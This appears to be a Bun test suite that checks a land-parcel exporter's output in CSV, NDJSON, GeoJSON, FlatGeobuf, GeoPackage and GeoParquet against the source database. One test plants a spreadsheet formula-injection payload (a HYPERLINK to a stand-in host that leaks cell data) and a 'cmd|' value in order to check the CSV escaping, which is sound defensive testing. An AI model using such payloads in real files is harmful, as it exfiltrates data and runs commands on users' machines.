import { Database } from 'bun:sqlite'
import { expect, setDefaultTimeout, test } from 'bun:test'
import { readdirSync } from 'node:fs'
import { DuckDBInstance } from '@duckdb/node-api'
import area from '@turf/area'
import bboxOf from '@turf/bbox'
import { wktToGeoJSON } from 'betterknown'
import type { Feature, MultiPolygon, Point } from 'geojson'
import type { Bbox } from '../../core/geometry/bbox'
import { columnsOf, DEFAULT_FIELDS } from '../../src/exports/export-columns'
import { FORMAT_NAMES, FORMATS } from '../../src/exports/formats'
import { hilbertKey } from '../../src/exports/hilbert-key'
import { runCommand } from '../clients/run-command'
import { findPython } from '../runner/python'
import { TEST_TIMEOUT_MS } from '../support/deadlines'
import { createTestDatabase } from '../support/servers'
import { createExporter, ORIGIN, seedParcels } from './sample-export'

setDefaultTimeout(TEST_TIMEOUT_MS)

const { sql } = await createTestDatabase()
const PARCELS = 300
await seedParcels(sql, PARCELS)
const { workDir, write } = createExporter(sql)

interface Parcel {
  values: Record<string, unknown>
  geometry: MultiPolygon | Point | null
}

const columns = columnsOf(DEFAULT_FIELDS)
const TIMES = columns.flatMap(({ name, type }) => (type === 'time' ? [name] : []))

/** The rows of the database, read without the export code. */
const stored = new Map<string, Parcel>()
for (const { body, geometry } of await sql<{ body: Record<string, unknown>; geometry: MultiPolygon | null }[]>`
  select row_to_json(r) as body, r.geom as geometry
  from (select p.*, s.state, s.county_name from parcels p join sources s using (source)) r`) {
  for (const name of TIMES) body[name] = toIso(body[name])
  const values = Object.fromEntries(columns.map(({ name }) => [name, body[name] ?? null]))
  stored.set(String(body.source_parcel_id), { values, geometry: geometry ?? pointOf(values) })
}

function pointOf({ lon, lat }: Record<string, unknown>): Point | null {
  return lon === null ? null : { type: 'Point', coordinates: [lon as number, lat as number] }
}

function toIso(time: unknown): string | null {
  return typeof time === 'string' && time !== '' ? new Date(time).toISOString() : null
}

const sumAreas = (parcels: Iterable<Parcel>): number =>
  [...parcels].reduce((sum, { geometry }) => sum + (geometry === null ? 0 : area(geometry)), 0)

const expectAll = (parcels: readonly Parcel[]) => {
  expect(parcels).toHaveLength(PARCELS)
  for (const parcel of parcels) {
    expect(parcel).toEqual(stored.get(String(parcel.values.source_parcel_id)) as Parcel)
  }
  expect(sumAreas(parcels)).toBe(
    sumAreas(parcels.map(({ values }) => stored.get(String(values.source_parcel_id)) as Parcel)),
  )
}

/** What GDAL reads from a file. */
const readByGdal = async (path: string, options: string[] = []): Promise<Feature<Parcel['geometry']>[]> => {
  const asGeoJson = ['-f', 'GeoJSON', '-lco', 'COORDINATE_PRECISION=15', '-lco', 'SIGNIFICANT_FIGURES=17']
  const run = Bun.spawn(['ogr2ogr', ...asGeoJson, ...options, '/vsistdout/', path], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  const [text, said] = await Promise.all([new Response(run.stdout).text(), new Response(run.stderr).text()])
  expect(said).toBe('')
  expect(await run.exited).toBe(0)
  return JSON.parse(text).features
}

type Convert = (value: unknown, column: (typeof columns)[number], parcelId: string) => unknown

const expectAllOfGdal = (features: readonly Feature<Parcel['geometry']>[], convert: Convert = (value) => value) =>
  expectAll(
    features.map(({ properties, geometry }) => {
      const parcelId = String(properties?.source_parcel_id)
      const read = (column: (typeof columns)[number]) => {
        const value = properties?.[column.name] ?? null
        return column.type === 'time' ? toIso(value) : convert(value, column, parcelId)
      }
      return { values: Object.fromEntries(columns.map((column) => [column.name, read(column)])), geometry }
    }),
  )

test('NDJSON has one line for each parcel, with boundaries but without points as geometry', async () => {
  const text = await Bun.file(await write('ndjson')).text()
  expect(text.endsWith('\n')).toBe(true)
  const lines = text.trimEnd().split('\n')
  expectAll(
    lines.map((line) => {
      const { geom_geojson: geometry, ...values } = JSON.parse(line)
      expect(geometry?.type ?? 'MultiPolygon').toBe('MultiPolygon')
      return { values, geometry: geometry ?? pointOf(values) }
    }),
  )
})

test('a GeoJSON text sequence has a record separator before each feature, and GDAL reads it', async () => {
  const path = await write('geojsonseq')
  const texts = (await Bun.file(path).text()).split('\x1e').slice(1)
  expect(texts.every((text) => text.endsWith('}\n'))).toBe(true)
  expectAll(
    texts.map((text) => {
      const { properties: values, geometry } = JSON.parse(text)
      return { values, geometry }
    }),
  )
  expectAllOfGdal(await readByGdal(path))
})

test('GDAL reads a CSV', async () => {
  expectAllOfGdal(await readByGdal(await write('csv')), (value, { name, type }, parcelId) => {
    if (type === 'list') {
      const list = stored.get(parcelId)?.values[name] as string[]
      // In a CSV, a list is one text.
      return value === (list.join('; ') || null) || (value === '' && list.length === 0) ? list : value
    }
    if (value === '' || value === null) return null
    if (type === 'boolean') return value === 'true'
    return ['money', 'area', 'degrees'].includes(type) ? Number(value) : value
  })
})

test('no text of a CSV is a formula in a spreadsheet; negative numbers and the other formats are unchanged', async () => {
  const formula = '=HYPERLINK("http://x.example?"&A1)'
  const [parcel] = await sql<Record<string, unknown>[]>`
    select id, source_parcel_id, owner_name, owner_names_all, situs_address from parcels where lon < 0 limit 1`
  await sql`
    update parcels set owner_name = ${formula}, owner_names_all = ${[formula, 'ELM']}, situs_address = '-1+cmd|x'
    where id = ${String(parcel?.id)}`
  try {
    const fields = ['lon', 'owner_name', 'owner_names_all', 'situs_address'] as const
    const lines = async (format: 'csv' | 'ndjson') =>
      (await Bun.file(await write(format, { fields, geometry: 'none' })).text()).split(/\r?\n/)
    const quoted = formula.replaceAll('"', '""')
    const row = (await lines('csv')).find((line) => line.includes('HYPERLINK'))
    expect(row).toEndWith(`"'${quoted}","'${quoted}; ELM",'-1+cmd|x`)
    expect(row).toContain(',-120.123456789,')
    const json = JSON.parse((await lines('ndjson')).find((line) => line.includes('HYPERLINK')) ?? '{}')
    expect(json).toMatchObject({ owner_name: formula, owner_names_all: [formula, 'ELM'], situs_address: '-1+cmd|x' })
  } finally {
    const { id, ...former } = parcel ?? {}
    await sql`update parcels set ${sql(former)} where id = ${String(id)}`
  }
})

const parseLists: Convert = (value, { type }) =>
  type === 'list' && typeof value === 'string' ? JSON.parse(value) : value

test('GDAL reads a FlatGeobuf', async () => {
  expectAllOfGdal(await readByGdal(await write('flatgeobuf')), parseLists)
})

test('GDAL reads a GeoPackage, and finds parcels with its index', async () => {
  const path = await write('geopackage')
  expectAllOfGdal(await readByGdal(path), parseLists)
  const found = await readByGdal(path, ['-spat', '-120.25', '43.95', '-120.21', '43.99'])
  expect(found.map(({ properties }) => properties?.assessed_value)).toEqual([9007199254740991])
})

test('DuckDB reads a GeoParquet with its boxes, in Hilbert order', async () => {
  const path = await write('geoparquet')
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  const query = async (text: string) => (await connection.runAndReadAll(text)).getRowObjectsJson()
  const times = TIMES.map((name) => `${name}::varchar as ${name}`)
  const rows = await query(`select * replace (${times.join()}), geometry::varchar as wkt from read_parquet('${path}')`)
  expectAll(
    rows.map((row) => {
      const read = ({ name, type }: (typeof columns)[number]) => {
        if (type === 'time') return row[name] === null ? null : toIso(`${row[name]}Z`)
        // In JSON, a 64-bit number is a text.
        return type === 'money' && row[name] !== null ? Number(row[name]) : row[name]
      }
      const values = Object.fromEntries(columns.map((column) => [column.name, read(column)]))
      return { values, geometry: row.wkt === null ? null : (wktToGeoJSON(String(row.wkt)) as MultiPolygon | Point) }
    }),
  )

  const boxes = rows.map(({ bbox }) => bbox as Record<string, number> | null)
  for (const [index, box] of boxes.entries()) {
    const geometry = stored.get(String(rows[index]?.source_parcel_id))?.geometry ?? null
    const [xmin, ymin, xmax, ymax] = geometry === null ? [] : bboxOf(geometry)
    expect(box).toEqual(geometry === null ? null : ({ xmin, ymin, xmax, ymax } as Record<string, number>))
  }
  const keys = boxes.map((box) => box && hilbertKey(Object.values(box) as Bbox))
  expect(keys.slice(0, -1)).toEqual(keys.slice(0, -1).toSorted((a, b) => Number(a) - Number(b)))
  expect(keys.at(-1)).toBeNull()

  const [metadata] = await query(
    `select decode(value) as geo from parquet_kv_metadata('${path}') where decode(key) = 'geo'`,
  )
  expect(JSON.parse(String(metadata?.geo))).toMatchObject({
    version: '1.1.0',
    columns: {
      geometry: {
        encoding: 'WKB',
        geometry_types: ['MultiPolygon', 'Point'],
        covering: { bbox: { xmax: ['bbox', 'xmax'] } },
      },
    },
  })
  expect(await query(`select distinct compression from parquet_metadata('${path}')`)).toEqual([{ compression: 'ZSTD' }])
})

const geopandas = findPython('geopandas') ?? ''

/** Square degrees, as geopandas measures them. */
const planarArea = ({ geometry }: Parcel): number => {
  const areaOf = (ring: number[][]) =>
    Math.abs(
      ring.reduce((sum, [x = 0, y = 0], index) => {
        const [nextX = 0, nextY = 0] = ring[(index + 1) % ring.length] ?? []
        return sum + x * nextY - nextX * y
      }, 0) / 2,
    )
  const polygons = geometry?.type === 'MultiPolygon' ? geometry.coordinates : []
  return polygons.reduce(
    (sum, [outer = [], ...holes]) => sum + areaOf(outer) - holes.reduce((hole, ring) => hole + areaOf(ring), 0),
    0,
  )
}

/** Writes the rows of a GeoParquet as lines of JSON. geopandas needs pyarrow to read them itself, and Debian has no pyarrow. */
const unpackParquet = async (path: string): Promise<string> => {
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  const times = TIMES.map((name) => `strftime(${name}, '%Y-%m-%dT%H:%M:%S.%gZ') as ${name}`)
  const unpacked = path.replace('.parquet', '.jsonl')
  // Without the spatial extension, DuckDB returns the boundary as it is stored in the file.
  await connection.run(`set enable_geoparquet_conversion = false`)
  await connection.run(`
    copy (select * exclude (bbox) replace (${times.join()}, hex(geometry) as geometry) from read_parquet('${path}'))
    to '${unpacked}' (format json)`)
  return unpacked
}

test.skipIf(geopandas === '' && process.env.CI !== 'true')('geopandas reads each format for maps', async () => {
  const paths = [
    ...(await Promise.all((['flatgeobuf', 'geopackage', 'geojsonseq'] as const).map((format) => write(format)))),
    await unpackParquet(await write('geoparquet')),
  ]
  const printed = (await runCommand([geopandas, 'test/exports/read-by-geopandas.py', ...paths])).trimEnd().split('\n')
  expect(printed).toHaveLength(paths.length)
  for (const { features, area } of printed.map((line) => JSON.parse(line))) {
    expectAllOfGdal(features, (value, column, parcelId) =>
      // pandas stores booleans as numbers in a column with unknown values.
      column.type === 'boolean' && value !== null ? Boolean(value) : parseLists(value, column, parcelId),
    )
    const expected = [...stored.values()].reduce((sum, parcel) => sum + planarArea(parcel), 0)
    expect(area).toBeCloseTo(expected, 9)
  }
})

test('neighbors on the curve are neighbors on the map', () => {
  const size = 16
  const cells = Array.from({ length: size * size }, (_, n) => [n % size, Math.floor(n / size)] as const)
  // Cells of the finest level, next to the middle of the world.
  const degrees = (cell: number, span: number) => ((cell + 0.5) * span) / 2 ** 24
  const sorted = cells
    .map(([x, y]) => {
      const [lon, lat] = [degrees(x, 360), -degrees(y, 180)]
      return { x, y, key: hilbertKey([lon, lat, lon, lat]) }
    })
    .toSorted((a, b) => a.key - b.key)
  for (const [index, { x, y }] of sorted.slice(1).entries()) {
    const before = sorted[index] as (typeof sorted)[number]
    expect(Math.abs(x - before.x) + Math.abs(y - before.y)).toBe(1)
  }
})

test('formats that can hold metadata name the dataset version, license and attribution', async () => {
  const read = async (path: string, command: string[]) => {
    const run = Bun.spawn([...command, path], { stdio: ['ignore', 'pipe', 'inherit'] })
    return new Response(run.stdout).text()
  }
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  const parquet = await connection.runAndReadAll(
    `select decode(value) as origin from parquet_kv_metadata('${await write('geoparquet')}') where decode(key) = 'origin'`,
  )
  expect(JSON.parse(String(parquet.getRowObjectsJson()[0]?.origin))).toEqual(ORIGIN as never)
  const geopackage = new Database(await write('geopackage'), { readonly: true })
  expect(JSON.parse(String(geopackage.query('select metadata from gpkg_metadata').values()[0]?.[0]))).toEqual(ORIGIN)
  geopackage.close()
  const flatgeobuf = await Bun.file(await write('flatgeobuf')).bytes()
  expect(new TextDecoder().decode(flatgeobuf)).toContain(JSON.stringify(ORIGIN))
  expect(await read(await write('geopackage'), ['ogrinfo', '-so', '-al'])).toContain('Feature Count: 300')
})

test('without boundaries, each format has only the values, and a row whose only field is empty is still written', async () => {
  const fields = ['situs_address'] as const
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  for (const name of FORMAT_NAMES.filter((name) => !FORMATS[name].needsGeometry)) {
    const path = await write(name, { fields, geometry: 'none' })
    if (name === 'geoparquet') {
      const described = await connection.runAndReadAll(`describe select * from read_parquet('${path}')`)
      expect(described.getRowObjectsJson().map(({ column_name }) => column_name)).toEqual([
        'id',
        'source',
        'source_parcel_id',
        'situs_address',
      ])
      continue
    }
    const read = name === 'ndjson' ? null : await readByGdal(path)
    const addresses =
      read?.map(({ properties }) => properties?.situs_address || null) ??
      (await Bun.file(path).text())
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).situs_address)
    expect(addresses.toSorted()).toEqual(
      [...stored.values()].map(({ values }) => values.situs_address).toSorted() as string[],
    )
  }
})

test('temporary files are removed', () => {
  expect(readdirSync(workDir).filter((name) => name.startsWith('sort-'))).toEqual([])
})

test('accounts are exported if they are requested, as JSON in one column or member', async () => {
  const accounts = [
    { account_id: 'R1', unit: '1', owner_name: 'ELM "ADA", JR' },
    { account_id: 'R2', unit: '2', owner_name: 'OAK BO' },
  ]
  await sql`update parcels set accounts = ${sql.json(accounts)} where id = (select id from parcels order by id offset 5 limit 1)`
  const options = { fields: ['accounts', 'owner_name'], geometry: 'none' } as const
  const lines = (await Bun.file(await write('ndjson', options)).text()).trimEnd().split('\n')
  const parcels = lines.map((line) => JSON.parse(line).accounts)
  expect(parcels.filter((list) => list.length > 0)).toEqual([accounts])

  for (const format of ['csv', 'flatgeobuf', 'geopackage'] as const) {
    const found = await readByGdal(await write(format, { ...options, geometry: 'full' }))
    const read = found.map(({ properties }) => properties?.accounts || '[]')
    const lists = read.map((text) => (typeof text === 'string' ? JSON.parse(text) : text))
    expect(lists.filter((list) => list.length > 0)).toEqual([accounts])
  }
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  const path = await write('geoparquet', options)
  const rows = (await connection.runAndReadAll(`select accounts from read_parquet('${path}')`)).getRowObjectsJson()
  expect(rows.map((row) => JSON.parse(String(row.accounts))).filter((list) => list.length > 0)).toEqual([accounts])
})
